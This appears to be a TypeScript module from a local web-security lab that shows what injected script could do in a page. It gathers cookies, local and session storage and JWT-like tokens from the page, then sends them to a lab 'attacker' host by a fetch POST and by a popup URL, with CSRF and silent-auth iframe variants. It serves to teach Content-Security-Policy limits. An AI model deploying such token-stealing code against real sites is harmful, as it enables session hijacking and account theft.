import type { Api } from '../../api.ts';
import type { Places } from './lab-client.ts';
import type { ScenarioId } from './scenarios.ts';

/**
 * What injected script would do in this page, with all the rights of the page and none besides. It runs when somebody
 * presses the button, and sends to the lab's attacker on this machine alone.
 *
 * @returns what it met, in words
 */
export async function attackThisPage(scenario: ScenarioId, places: Places, api: Api): Promise<string[]> {
  if (scenario === 'csrf') {
    open(`${places.attacker}/csrf`, '_blank', 'noopener,popup,width=480,height=360');
    return ['A page of another site was opened; what it shows is the answer to its form.'];
  }
  const met: string[] = [];
  const loot = [everythingInReach()];
  let data: unknown;
  if (scenario === 'persistent') {
    for (let round = 0; round < 2; round += 1) {
      await api.whoAmI();
      loot.push(everythingInReach());
    }
    met.push('It looked again after each of two calls.');
  }
  if (scenario === 'proxy') data = await api.whoAmI();
  if (scenario === 'frame') met.push(await tryFrame(places));

  const note = `Everything that script could read: ${JSON.stringify(loot[0]).length} characters.`;
  const message = JSON.stringify({ from: 'coatcheck', scenario, note, loot, data });
  met.push(await trySending(places, message));
  // Nothing keeps a page from opening another one: this way out is open to every script.
  const query = new URLSearchParams({ loot: message });
  open(`${places.attacker}/collect?${query}`, '_blank', 'noopener,popup,width=480,height=360');
  met.push('It opened a window of the attacker’s with what it had in the address. No policy stops that.');
  return met;
}

function everythingInReach() {
  return {
    cookie: document.cookie,
    localStorage: { ...localStorage },
    sessionStorage: { ...sessionStorage },
    page: document.documentElement.outerHTML.match(/eyJ[\w-]+\.[\w-]+\.[\w-]*/g) ?? [],
  };
}

async function trySending({ attacker }: Places, body: string): Promise<string> {
  try {
    await fetch(`${attacker}/collect`, { method: 'POST', mode: 'no-cors', body });
    return 'A fetch to the attacker’s server went through.';
  } catch {
    return 'A fetch to the attacker’s server was blocked by the Content-Security-Policy.';
  }
}

async function tryFrame({ issuer }: Places): Promise<string> {
  const blocked = new Promise<string>((resolve) => {
    document.addEventListener(
      'securitypolicyviolation',
      ({ effectiveDirective }) => resolve(`The frame was blocked by the policy (${effectiveDirective}).`),
      { once: true },
    );
    setTimeout(() => resolve('The frame was not blocked, and its answer could not be read.'), 1_500);
  });
  const frame = document.createElement('iframe');
  frame.hidden = true;
  frame.src = `${issuer}/auth?prompt=none`;
  document.body.append(frame);
  const outcome = await blocked;
  frame.remove();
  return outcome;
}
